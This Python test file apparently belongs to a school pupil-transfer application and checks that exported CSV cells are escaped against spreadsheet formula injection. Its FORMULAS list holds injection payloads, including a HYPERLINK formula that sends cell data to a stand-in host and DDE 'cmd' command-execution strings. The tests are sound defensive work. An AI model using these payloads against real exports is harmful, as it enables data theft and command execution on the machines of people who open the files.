"""Words of others in the files that people open with a spreadsheet."""

import csv
import io
import zipfile

import making
import pytest
import steps

from s2s_tui.base.text import cell_text
from s2s_tui.services import pupils, transfers

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"see")',
    "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_is_taken_for_a_formula(formula: str) -> None:
    assert cell_text(formula) == f"'{formula}"


@pytest.mark.parametrize("text", ["", "Llwyd", "O'Brien", "a=b", "1-2", "'quoted", "Siân"])
def test_other_cells_stay_as_they_are(text: str) -> None:
    assert cell_text(text) == text


@pytest.mark.requirement("R-SYS-7")
def test_a_reason_in_an_exported_timeline_is_no_formula(lite, tmp_path) -> None:
    """Subject access: the authority opens what another organisation's clerk wrote."""
    sender = making.logged_on(lite, "school", "6804012")
    sent = steps.sent(sender, lite, making.offered())
    transfers.reject(making.logged_on(lite, "school", "6814053"), lite, [sent], FORMULAS[0])
    target = tmp_path / "all.zip"
    pupils.export(making.logged_on(lite, "user", "680"), lite, making.upn(1), target)
    with zipfile.ZipFile(target) as bundle:
        rows = list(csv.reader(io.StringIO(bundle.read("timeline.csv").decode())))
    assert rows[-1][-1] == f"'{FORMULAS[0]}"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
